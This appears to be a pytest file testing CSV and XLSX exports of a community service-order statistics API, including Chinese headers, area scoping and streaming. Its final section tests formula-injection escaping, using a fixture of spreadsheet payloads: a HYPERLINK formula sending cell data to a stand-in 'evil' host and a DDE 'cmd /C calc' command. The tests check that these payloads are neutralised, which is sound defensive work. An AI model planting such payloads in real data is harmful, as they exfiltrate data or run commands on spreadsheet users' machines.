"""Exports (GET /stats/export): the files are opened and read back with openpyxl and csv."""
import csv
import io
from datetime import datetime
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from tests.stats.test_stats import HISTORY, MARCH, build_history

SY_MARCH_ORDERS = [n for n in range(1, 9)]  # the names of the orders of 松阳 created in March


@pytest.fixture
def history(app, demo):
    return build_history(app, demo)


def export(client, demo, fmt, who="staff_sy", **params):
    response = client.get("/api/v1/stats/export", query_string={"format": fmt, **MARCH, **params},
                          headers=demo.headers(who))
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response


def filename_of(response) -> str:
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment")
    return unquote(disposition.split("filename*=UTF-8''")[1])


def test_csv_export_reads_back(client, demo, history):
    """Is the csv UTF-8 with a BOM, with Chinese headers and one row per order of the period?"""
    response = export(client, demo, "csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.is_streamed
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, data = rows[0], rows[1:]
    assert header[:7] == ["工单编号", "下单时间", "所属区域", "服务类别", "标题", "需求描述", "状态"]
    ids = history["orders"]
    assert [int(r[0]) for r in data] == [ids[n] for n in SY_MARCH_ORDERS]
    first = dict(zip(header, data[0]))
    assert first["下单时间"] == "2024-03-01 00:30"  # Shanghai time, though 2024-02-29 in UTC
    assert first["所属区域"] == "松阳社区" and first["服务类别"] == "陪医" and first["状态"] == "已评价"
    assert first["服务队"] == "松阳社区党员志愿服务队" and first["接单志愿者"] == "松阳志愿者一"
    assert first["是否按时办结"] == "是" and first["评价星级"] == "5" and first["联系电话"] == "13800001234"
    second = dict(zip(header, data[1]))
    assert second["是否按时办结"] == "否" and second["完成时间"] == "2024-03-03 11:00"
    sixth = dict(zip(header, data[5]))
    assert sixth["状态"] == "待派单" and sixth["是否超期未办"] == "是" and sixth["服务队"] == ""
    last = dict(zip(header, data[-1]))
    assert last["所属区域"] == "第一网格" and last["下单时间"] == "2024-03-31 23:30"
    assert filename_of(response) == "社区五单_松阳社区_20240301-20240331.csv"


def test_xlsx_export_reads_back(client, demo, history):
    """Does the workbook hold a sheet of orders and a sheet of figures, in Chinese?"""
    response = export(client, demo, "xlsx")
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert filename_of(response) == "社区五单_松阳社区_20240301-20240331.xlsx"
    book = load_workbook(io.BytesIO(response.get_data()))
    assert book.sheetnames == ["工单明细", "统计指标"]
    rows = list(book["工单明细"].iter_rows(values_only=True))
    header, data = rows[0], rows[1:]
    assert header[:3] == ("工单编号", "下单时间", "所属区域")
    ids = history["orders"]
    assert [r[0] for r in data] == [ids[n] for n in SY_MARCH_ORDERS]
    first = dict(zip(header, data[0]))
    assert first["下单时间"] == datetime(2024, 3, 1, 0, 30)
    assert first["状态"] == "已评价" and first["评价星级"] == 5
    cancelled = dict(zip(header, data[4]))
    assert cancelled["状态"] == "已取消" and cancelled["接单时间"] is None

    figures = {row[0]: row[1] for row in book["统计指标"].iter_rows(values_only=True) if row and row[0]}
    assert figures["统计范围"] == "松阳社区"
    assert figures["统计期间"] == "2024年3月1日至3月31日"
    assert figures["受理量（件）"] == 8 and figures["取消（件）"] == 1 and figures["办结量（件）"] == 5
    assert figures["办结率"] == pytest.approx(5 / 7) and figures["按时办结率"] == pytest.approx(0.8)
    assert figures["满意率"] == pytest.approx(2 / 3) and figures["响应时长中位数（分钟）"] == 52.5
    assert figures["服务人次"] == 5 and figures["发放积分"] == 43 and figures["超期未办（件）"] == 1
    assert figures["陪医"] == 3  # the category table: 受理量 next to the label
    assert figures["松阳社区党员志愿服务队"] == 6
    rate_cell = next(r for r in book["统计指标"].iter_rows() if r[0].value == "办结率")[1]
    assert rate_cell.number_format == "0.0%"


def test_admin_exports_the_county(client, demo, history):
    """Does the admin's default export hold every order of the county's March?"""
    response = export(client, demo, "csv", who="admin")
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))[1:]
    march = [n for n, spec in HISTORY.items() if spec[2].month == 3]
    assert len(rows) == len(march) == 10
    assert {r[2] for r in rows} == {"松阳社区", "第一网格", "青山社区"}


def test_export_of_an_area_holds_only_that_area(client, demo, history):
    """Does an export for 青山社区 leave 松阳's orders out?"""
    response = export(client, demo, "xlsx", who="admin", area_id=demo.qs)
    rows = list(load_workbook(io.BytesIO(response.get_data()))["工单明细"].iter_rows(values_only=True))[1:]
    assert [r[0] for r in rows] == [history["orders"][11], history["orders"][12]]


def test_empty_export_has_headers_only(client, demo, history):
    """Is an empty period's export a valid file with just the header row?"""
    response = export(client, demo, "csv", **{"from": "2023-01-01", "to": "2023-02-01"})
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert len(rows) == 1 and rows[0][0] == "工单编号"
    book = load_workbook(io.BytesIO(export(client, demo, "xlsx", **{"from": "2023-01-01",
                                                                     "to": "2023-02-01"}).get_data()))
    assert book["工单明细"].max_row == 1


def test_large_csv_is_streamed_in_chunks(client, demo, history, app):
    """Does a csv of thousands of orders arrive in several chunks, every row intact?"""
    from app.extensions import db
    from app.orders.models import Order

    with app.app_context():
        template = db.session.get(Order, history["orders"][6])
        values = {c.name: getattr(template, c.name) for c in Order.__table__.columns if c.name != "id"}
        db.session.execute(Order.__table__.insert(), [values] * 2500)
        db.session.commit()
    response = client.get("/api/v1/stats/export", query_string={"format": "csv", **MARCH},
                          headers=demo.headers("staff_sy"), buffered=False)
    chunks = [chunk for chunk in response.response if chunk]
    response.close()
    assert len(chunks) >= 3
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert len(rows) == 1 + 8 + 2500


@pytest.mark.parametrize("fmt", ["pdf", ""])
def test_unknown_format_is_422(client, demo, fmt):
    """Is an unknown format a 422?"""
    response = client.get("/api/v1/stats/export", query_string={"format": fmt}, headers=demo.headers("staff_sy"))
    assert response.status_code == 422


# --- formula injection (issue 14, high) --------------------------------------------------------

EVIL = {
    "title": "=HYPERLINK(\"http://evil/?\"&K2&L2,\"查看详情\")",
    "description": "+cmd|' /C calc'!A0",
    "contact_name": "-2+3",
    "address": "@SUM(1,1)",
}


@pytest.fixture
def evil_order(app, demo, history):
    """The first of 松阳's March orders, its resident's text and rating comment written to attack a spreadsheet."""
    from app.extensions import db
    from app.orders.models import Order, Rating

    with app.app_context():
        order = db.session.get(Order, history["orders"][1])
        for field, value in EVIL.items():
            setattr(order, field, value)
        rating = db.session.query(Rating).filter_by(order_id=order.id).one()
        rating.comment = "\t=1+1"
        db.session.commit()
        return order.id


def test_csv_export_escapes_text_that_would_be_a_formula(client, demo, evil_order):
    """Does the csv write a resident's text that starts with =, +, -, @ or a tab with a leading ', so a
    spreadsheet shows it as typed instead of running it?"""
    rows = list(csv.reader(io.StringIO(export(client, demo, "csv").get_data().decode("utf-8-sig"))))
    header = rows[0]
    row = dict(zip(header, next(r for r in rows[1:] if int(r[0]) == evil_order)))
    assert row["标题"] == "'" + EVIL["title"]
    assert row["需求描述"] == "'" + EVIL["description"]
    assert row["联系人"] == "'" + EVIL["contact_name"]
    assert row["服务地址"] == "'" + EVIL["address"]
    assert row["评价内容"] == "'\t=1+1"
    assert row["联系电话"] == "13800001234"  # plain text is untouched


def test_xlsx_export_never_holds_a_formula_from_user_text(client, demo, evil_order):
    """Does the xlsx hold the resident's text as text cells (data type 's'), never as a formula cell?"""
    book = load_workbook(io.BytesIO(export(client, demo, "xlsx").get_data()))
    sheet = book["工单明细"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    header = [cell.value for cell in next(sheet.iter_rows())]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == evil_order)
    cells = dict(zip(header, row))
    assert cells["标题"].data_type == "s" and cells["标题"].value == "'" + EVIL["title"]
    assert cells["服务地址"].value == "'" + EVIL["address"] and cells["联系人"].value == "'-2+3"
    assert cells["评价内容"].value == "'\t=1+1"


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("张大爷", "张大爷"), ("a=1", "a=1"), ("", ""), (None, None), (-1, -1), (3.5, 3.5),
])
def test_safe_cell(value, written):
    """Does the exports' one helper escape exactly text that starts with a formula trigger?"""
    from app.spreadsheet import safe_cell

    assert safe_cell(value) == written
